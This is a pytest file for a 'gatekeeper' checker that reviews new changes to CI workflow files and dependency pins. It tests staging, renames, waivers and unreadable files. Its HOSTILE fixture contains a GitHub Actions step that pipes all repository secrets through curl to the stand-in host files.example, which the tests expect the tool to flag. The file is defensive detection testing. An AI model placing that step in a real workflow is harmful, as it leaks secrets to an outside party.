"""`gatekeeper check --base`: files that run in continuous integration are judged by what is new in them."""

from __future__ import annotations

import hashlib
from typing import TYPE_CHECKING, Any

import pytest

from tests.support.clients import NEWEST
from tests.support.ground import GATEKEEPER
from tests.support.packages import wheel
from tests.support.repository import commit, git

if TYPE_CHECKING:
    from tests.support.ground import Done, Ground, MakeGround
    from tests.support.index import Index

WORKFLOW = ".github/workflows/build.yml"
HONEST = "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: make\n"
HOSTILE = HONEST + "      - run: echo '${{ toJSON(secrets) }}' | curl -d @- https://files.example/\n"


def check(ground: Ground, *words: str, expect: int) -> Done:
    done = ground.run(*GATEKEEPER, "check", "--format", "json", *words)
    assert done.code == expect, done.text
    return done


def rows(done: Done) -> dict[str, Any]:
    return {row["name"]: row for row in done.report["releases"]}


@pytest.fixture
def ground(make_ground: MakeGround, index: Index) -> Ground:
    index.add(*(wheel("mossgarden", version) for version in ("1.0", "1.1")))
    made = make_ground(NEWEST, index_url=index.url)
    git(made, "init", "-q", "-b", "main")
    commit(made, {WORKFLOW: HONEST, "requirements.txt": "mossgarden==1.0\n"})
    return made


def test_it_is_looked_at_when_nothing_else_changed_and_whatever_is_named(ground: Ground) -> None:
    ground.write(WORKFLOW, HOSTILE)
    row = rows(check(ground, "--base", "HEAD", "requirements.txt", expect=10))[WORKFLOW]
    assert row["place"] == {"file": WORKFLOW, "line": 8}
    assert row["purl"] == "pkg:generic/.github/workflows/build.yml"
    assert {each["check"] for each in row["findings"]} == {"secrets-dumped"}


def test_what_is_staged_counts_and_not_what_lies_about(ground: Ground) -> None:
    ground.write(WORKFLOW, HOSTILE)
    assert rows(check(ground, "--staged", expect=0)) == {}
    git(ground, "add", "-A")
    ground.write(WORKFLOW, HONEST)
    assert set(rows(check(ground, "--staged", expect=10))) == {WORKFLOW}


def test_a_bots_bump_of_both_passes_and_that_they_ride_together_is_a_note(ground: Ground) -> None:
    commit(ground, {WORKFLOW: HONEST.replace("@v4", "@v5"), "requirements.txt": "mossgarden==1.1\n"})
    found = rows(check(ground, "--base", "HEAD~1", expect=0))
    assert set(found) == {WORKFLOW, "mossgarden"}
    assert {each["check"]: each["severity"] for each in found[WORKFLOW]["findings"]} == {
        "rides-along": "note",
        "unpinned-action": "note",
    }


def test_a_file_that_is_renamed_with_its_old_faults_brings_nothing_new(ground: Ground) -> None:
    commit(ground, {WORKFLOW: HOSTILE})
    git(ground, "mv", WORKFLOW, ".github/workflows/other.yml")
    assert rows(check(ground, "--base", "HEAD", expect=0))[".github/workflows/other.yml"]["findings"] == []
    git(ground, "rm", "-q", "--cached", ".github/workflows/other.yml")
    assert rows(check(ground, "--staged", expect=0)) == {}  # only taken away


def test_a_file_that_cannot_be_read_is_a_question_at_its_line(ground: Ground) -> None:
    ground.write(WORKFLOW, "on: [push\n")
    assert rows(check(ground, "--base", "HEAD", expect=11))[WORKFLOW]["findings"][0]["check"] == "not-fully-read"


def test_a_waiver_is_for_the_file_as_it_is_and_stands_in_the_base(ground: Ground) -> None:
    waiver = (
        f'[[waiver]]\nrelease = "pkg:generic/{WORKFLOW}"\ncheck = "secrets-dumped"\nreason = "looked at"\n'
        f'sha256 = "{hashlib.sha256(HOSTILE.encode()).hexdigest()}"\nauthor = "ada"\nexpires = 2099-01-01\n'
    )
    (ground.home / "p.toml").write_text(waiver, "utf-8")
    ground.write(WORKFLOW, HOSTILE)
    check(ground, "--base", "HEAD", "--policy", str(ground.home / "p.toml"), expect=0)
    ground.write("gatekeeper.toml", waiver)
    check(ground, "--base", "HEAD", expect=10)
    ground.write(WORKFLOW, HOSTILE + "      - run: make test\n")
    check(ground, "--base", "HEAD", "--policy", str(ground.home / "p.toml"), expect=10)


def test_without_a_base_nothing_is_new(ground: Ground) -> None:
    ground.write(WORKFLOW, HOSTILE)
    assert WORKFLOW not in rows(check(ground, expect=0))


def test_a_path_that_is_not_there_is_a_mistake_and_no_empty_success(ground: Ground) -> None:
    ground.write("requirements.txt", "mossgarden==1.1\n")
    assert "does not exist" in check(ground, "--base", "HEAD", "requirement.txt", expect=2).err
    (ground.project / "requirements.txt").unlink()
    check(ground, "--base", "HEAD", "requirements.txt", expect=0)
